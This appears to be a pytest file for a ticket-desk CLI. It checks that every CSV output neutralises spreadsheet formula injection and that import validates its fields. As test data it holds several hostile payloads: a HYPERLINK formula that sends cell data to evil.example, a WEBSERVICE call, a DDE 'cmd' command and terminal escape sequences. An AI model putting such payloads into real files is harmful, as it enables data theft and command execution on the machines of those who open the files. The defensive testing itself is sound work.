"""CSV that is safe to open in a spreadsheet: no cell of any CSV output starts a formula.

Titles, customer names and descriptions come from customers (online chat, e-mail), and the
CSV is the file people open in Excel. A cell that begins with ``=``, ``+``, ``-``, ``@``, a
tab or a CR gets a leading ``'`` (as OWASP recommends); ``import`` takes exactly that off.
"""

from __future__ import annotations

import csv
import io
import json

from hypothesis import given
from hypothesis import strategies as st

from cstool.reports import render
from tests.support.desk import CliDesk
from tests.support.roster import MANAGER, SUPERVISOR

HOSTILE_TITLES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "@SUM(1+1)", "-2+3"]
HOSTILE_NAME = "=cmd|' /C calc'!A0"
HOSTILE_DESCRIPTIONS = ["\t=1+1", "-2+3", "+1+1", "@SUM(1+1)"]  # a bare CR is refused by create
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _dangerous(text: str) -> list[str]:
    return [cell for row in _cells(text) for cell in row if cell[:1] in FORMULA_START]


def _hostile_desk(desk: CliDesk) -> list[str]:
    made = []
    for title, description in zip(HOSTILE_TITLES, HOSTILE_DESCRIPTIONS, strict=True):
        made.append(desk.create("--type", "complaint", "--title", title, "--description", description,
                                "--customer", HOSTILE_NAME, "--phone", "13812345678"))
    desk.ok("customer", "add", "--name", "=1+2", "--tier", "A", "--note", "-3")
    return made


def test_every_csv_output_neutralises_formula_cells(desk):
    made = _hostile_desk(desk)
    desk.ok("close", made[0], "--resolution", "=WEBSERVICE(\"http://evil.example\")", as_=SUPERVISOR)
    outputs = {
        "export": desk.ok("export").stdout,
        "export --reveal": desk.ok("export", "--reveal").stdout,
        "list": desk.ok("list", "--status", "all", "--format", "csv").stdout,
        "due": desk.ok("due", "--within", "30d", "--format", "csv").stdout,
        "audit": desk.ok("audit", "--period", "2026-11", "--format", "csv").stdout,
        "sample": desk.ok("sample", "-n", "5", "--seed", "1", "--format", "csv", as_=MANAGER).stdout,
        "customer list": desk.ok("customer", "list", "--format", "csv").stdout,
        "show": desk.ok("show", made[1], "--format", "csv").stdout,
    }
    for where, text in outputs.items():
        assert _dangerous(text) == [], f"{where}: {_dangerous(text)}"
    # and the hostile texts are really there, neutralised (the test is not vacuous)
    exported = outputs["export"]
    assert "'" + HOSTILE_TITLES[0] in [c for row in _cells(exported) for c in row]
    assert "'" + HOSTILE_NAME in exported and "'\t=1+1" in exported and "'-2+3" in exported
    assert "'" + HOSTILE_TITLES[1] in outputs["list"] and "'=1+2" in outputs["customer list"]


def test_numbers_stay_numbers_and_texts_that_look_like_numbers_do_not():
    assert render.table([[-2, 1.5, "-2", "ok"]], ["a", "b", "c", "d"], "csv") == "a,b,c,d\r\n-2,1.5,'-2,ok\r\n"


def test_the_level_column_of_an_export_is_a_plain_number(desk):
    desk.create("--type", "complaint", "--title", "普通投诉")
    rows = list(csv.DictReader(io.StringIO(desk.ok("export").stdout)))
    assert rows[0]["level"] == "1"


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", "1", "中", " "]), max_size=8))
def test_csv_cell_is_undone_exactly_and_never_starts_a_formula(text):
    cell = render.csv_cell(text)
    assert cell[:1] not in FORMULA_START
    assert render.csv_uncell(cell) == text


def test_export_then_import_gives_back_the_hostile_texts_exactly(desk, new_desk, tmp_path):
    made = _hostile_desk(desk)
    out = tmp_path / "all.csv"
    desk.ok("export", "--reveal", "-o", str(out))
    target = new_desk("target")
    target.ok("import", str(out), as_=SUPERVISOR)
    for tid in made:
        a, b = desk.ticket(tid), target.ticket(tid)
        assert (a["title"], a["description"], a["customer"]) == (b["title"], b["description"], b["customer"])
    assert target.ticket(made[0])["title"] == HOSTILE_TITLES[0]
    assert target.ticket(made[0])["description"] == "\t=1+1"


def test_import_keeps_a_leading_quote_it_did_not_add(desk, tmp_path):
    rows = tmp_path / "rows.csv"
    rows.write_text("type,title,channel\ncomplaint,'引号开头,phone\ncomplaint,'=1+1,phone\n", encoding="utf-8")
    desk.ok("import", str(rows), as_=SUPERVISOR)
    titles = sorted(desk.ticket(p.stem)["title"] for p in desk.ticket_files())
    assert titles == ["'引号开头", "=1+1"]


def _import_json(desk: CliDesk, tmp_path, rows: list[dict]) -> tuple:
    path = tmp_path / "rows.json"
    path.write_text(json.dumps(rows), encoding="utf-8")  # ASCII: a lone surrogate stays a JSON escape
    before = desk.snapshot()
    res = desk.run("import", str(path), as_=SUPERVISOR)
    return res, before


def test_import_applies_the_rules_of_create_to_every_field(desk, tmp_path):
    good = {"type": "complaint", "title": "正常", "channel": "phone"}
    bad_rows = [
        dict(good, title="x\ud800y"),                            # a lone surrogate
        dict(good, title="\x1b]0;pwned\x07\x1b[2J"),             # terminal control characters
        dict(good, description="a\x00b"),
        dict(good, title="t" * 201),                             # over the title limit
        dict(good, fields={"note": "\x1b[2J"}),                  # control characters anywhere
        dict(good, customer={"name": "张三", "phone": "135****5555"}),   # a masked export
        dict(good, customer={"name": "张三", "email": "z***@example.com"}),
        dict(good, tier="13812345678", customer={"name": "张三", "tier": "13812345678"}),
    ]
    for number, bad in enumerate(bad_rows):
        res, before = _import_json(desk, tmp_path, [good, bad])
        assert res.exit_code == 2, (number, res.stderr)
        assert "row 2" in res.stderr and "row 1" not in res.stderr, (number, res.stderr)
        assert "Traceback" not in res.stderr and res.stderr.count("\n") == 1
        assert "13812345678" not in res.stderr and "\x1b" not in res.stderr
        assert desk.snapshot() == before


def test_import_of_whole_tickets_refuses_masked_contacts_and_bad_timestamps(desk, new_desk, tmp_path):
    tid = desk.create("--type", "complaint", "--title", "完整工单", "--customer", "张三", "--phone", "13812345678")
    masked = json.loads(desk.ok("export", "--format", "json").stdout)
    target = new_desk("target")
    res, before = _import_json(target, tmp_path, masked)
    assert res.exit_code == 2 and "row 1" in res.stderr and "masked" in res.stderr
    assert target.snapshot() == before
    revealed = json.loads(desk.ok("export", "--format", "json", "--reveal").stdout)
    revealed[0]["updated"] = "banana"
    res, before = _import_json(target, tmp_path, revealed)
    assert res.exit_code == 2 and "row 1" in res.stderr and target.snapshot() == before
    revealed[0]["updated"] = revealed[0]["created"]
    revealed[0]["title"] = "x\ud800y"
    res, _ = _import_json(target, tmp_path, revealed)
    assert res.exit_code == 2 and "U+D800" in res.stderr and target.snapshot() == before
    assert tid not in {p.stem for p in target.ticket_files()}
